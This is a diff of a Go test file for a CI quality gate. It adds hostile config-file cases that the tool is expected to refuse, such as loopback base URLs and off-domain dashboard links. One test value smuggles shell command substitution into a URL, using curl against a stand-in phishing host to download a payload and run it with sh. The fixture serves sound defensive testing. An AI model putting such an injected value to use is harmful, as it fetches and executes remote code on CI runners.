@@ -1,13 +1,17 @@
 package app
 
 // Hostile cases from an independent review: two valid manifests of one
-// commit swapped between detach steps.
+// commit swapped between detach steps; a config file that points the key
+// or the links at a local listener, carries shell syntax into the
+// group-run-url output, names --attach, or names a report path with a
+// line break.
 
 import (
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/docketqa-gate/docketqa-gate/internal/hostile"
 )
@@ -79,6 +83,50 @@ func TestHostileManifestSwappedBetweenLegs(t *testing.T) {
 				if !strings.Contains(h.logs(), want) {
 					t.Errorf("the refusal does not say %q:\n%s", want, h.logs())
 				}
+			}
+		})
+	}
+}
+
+// TestHostileConfigFileReview: settings in a config file, which a pull
+// request can change, that would hand the key to any local listener, put
+// shell syntax into the group-run-url output, pick the runs to judge or
+// name a file unlike the one the outputs show. Each is exit 2 before any
+// request, naming the setting and what to do.
+func TestHostileConfigFileReview(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		name, file string
+		want       []string
+	}{
+		// The hostile API itself listens on loopback: from the file it
+		// must not get the key.
+		{"base-url on loopback", "base-url: API\n", []string{"base-url", "docketqa.com", "loopback included", "DOCKETQA_BASE_URL"}},
+		{"dashboard-url with shell syntax",
+			`dashboard-url: "https://phish.example/x/$(curl$IFS-o$IFS/tmp/p$IFS'phish.example/p')$(sh$IFS/tmp/p)"` + "\n",
+			[]string{"dashboard-url", "- . _ ~ /"}},
+		{"dashboard-url elsewhere", "dashboard-url: https://phish.example/x\n", []string{"dashboard-url", "docketqa.com", "DOCKETQA_DASHBOARD_URL"}},
+		{"dashboard-url on loopback", "dashboard-url: http://127.0.0.1:9\n", []string{"dashboard-url", "loopback included"}},
+		{"attach", "attach: DIR/m.json\n", []string{"attach cannot be set in a config file", "DOCKETQA_ATTACH"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			h := newGateRun(t, hgGitHub)
+			args := passing(h.api, true)
+			file := strings.ReplaceAll(strings.ReplaceAll(tc.file, "DIR", h.dir), "API", h.api.URL)
+			cfg := filepath.Join(h.dir, "gate.yml")
+			if err := os.WriteFile(cfg, []byte(file), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			if strings.HasPrefix(tc.file, "base-url") {
+				// The file's URL would lose to the variable otherwise.
+				delete(h.env, "DOCKETQA_BASE_URL")
+			}
+			h.runWithin(60*time.Second, append(args, "--config", cfg)...)
+			h.assertRefusedConfig(tc.want...)
+			out := githubOutputs(t, h.env["GITHUB_OUTPUT"])["group-run-url"] + h.dotenv()["DOCKETQA_GROUP_RUN_URL"]
+			if strings.ContainsAny(out, "$()'`;") {
+				t.Errorf("shell syntax in the group-run link: %q", out)
 			}
 		})
 	}
